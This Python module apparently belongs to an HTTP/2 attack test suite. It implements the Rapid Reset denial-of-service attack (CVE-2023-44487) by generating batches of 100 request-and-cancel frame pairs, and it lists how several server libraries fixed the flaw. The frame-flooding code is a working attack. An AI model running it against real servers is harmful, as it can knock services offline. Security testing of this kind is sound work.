"""Rapid Reset (CVE-2023-44487): a request opened and cancelled at once (HEADERS then RST_STREAM CANCEL),
stream after stream, so the server starts work for requests that never count against its
MAX_CONCURRENT_STREAMS (RFC 9113 section 5.1.2)."""
from hyperframe.frame import RstStreamFrame

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import request

CANCEL = 0x8
PAIRS = 100  # HEADERS and RST_STREAM pairs per batch


def batch(conn) -> bytes:
    frames = bytearray()
    block = request(conn)
    for _ in range(PAIRS):
        sid = conn.stream_id()
        frames += conn.headers(sid, block) + RstStreamFrame(sid, error_code=CANCEL).serialize()
    return bytes(frames)


ATTACK = Attack(
    key="rapid-reset", title="Rapid Reset", cve="CVE-2023-44487", rfc="RFC 9113 section 5.1.2 (stream concurrency)",
    sends=f"GET / and RST_STREAM(CANCEL) at once, {PAIRS} streams per write, reading what the server answers",
    batch=batch,
    fixes=(Fix("hypercorn", "0.16.0", "keep_alive_max_requests (default 1000): the connection is closed after "
                                      "1000 requests, reset or not (pgjones/hypercorn#146, commit 926c430)"),
           Fix("twisted", "26.10.0", "a token bucket on the resets a peer sends (burst 1000, 33 a second), then "
                                     "GOAWAY ENHANCE_YOUR_CALM (twisted.web._http2; not in 26.4.0)"),
           Fix("go", "go1.21.3", "handlers bounded to MaxConcurrentStreams, later requests queued, the connection "
                                 "closed when the queue grows (CVE-2023-39325, golang/go#63417; x/net v0.17.0)"),
           Fix("h2-rust", "0.3.17", "max_pending_accept_reset_streams (CVE-2023-26964); hyper declared itself "
                                    "unaffected by CVE-2023-44487 (hyperium/hyper#3337)"),
           Fix("h2", "", "python-hyper's h2 is a state machine without I/O: bounding resets is the server's job")),
)
